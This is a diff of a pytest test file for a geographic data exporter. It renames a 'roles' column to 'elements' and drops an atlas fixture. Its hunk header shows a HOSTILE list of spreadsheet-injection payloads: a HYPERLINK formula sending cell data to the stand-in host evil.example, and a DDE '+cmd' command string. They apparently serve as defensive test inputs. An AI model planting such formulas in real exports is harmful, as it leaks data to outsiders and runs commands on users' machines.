@@ -24,11 +24,6 @@ HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc
 
 
 @pytest.fixture(scope="module")
-def atlas():
-    return geo.load("wenzhou-2024")
-
-
-@pytest.fixture(scope="module")
 def written(atlas, tmp_path_factory):
     folder = tmp_path_factory.mktemp("export")
     return {fmt: atlas.export(folder / f"w.{fmt}") for fmt in FORMATS}
@@ -59,7 +54,7 @@ def test_read_back_equals_written(atlas, written, fmt):
 @pytest.mark.parametrize("fmt", ["geojson", "gpkg", "parquet"])
 def test_lists_and_geometry_round_trip_to_the_atlas(atlas, written, fmt):
     back = read_back(written[fmt], fmt)
-    assert [export.split_list(r) for r in back["roles"]] == list(atlas.districts["roles"])
+    assert [export.split_list(r) for r in back["elements"]] == list(atlas.districts["elements"])
     assert [export.split_list(i) for i in back["industries"]] == list(
         atlas.districts["industries"])
     assert list(back["has_ic"]) == ["ic" in i for i in atlas.districts["industries"]]
@@ -79,7 +74,7 @@ def test_geojson_follows_rfc_7946(written):
     assert list(data) == ["type", "features"] and "crs" not in data
     feature = data["features"][0]
     assert list(feature) == ["type", "properties", "geometry"]
-    assert list(feature["properties"])[:6] == ["adcode", "name_zh", "name_en", "roles",
+    assert list(feature["properties"])[:6] == ["adcode", "name_zh", "name_en", "elements",
                                                "industries", "area_km2"]
     for feature in data["features"]:
         for polygon in shapely.get_parts(shapely.geometry.shape(feature["geometry"])):
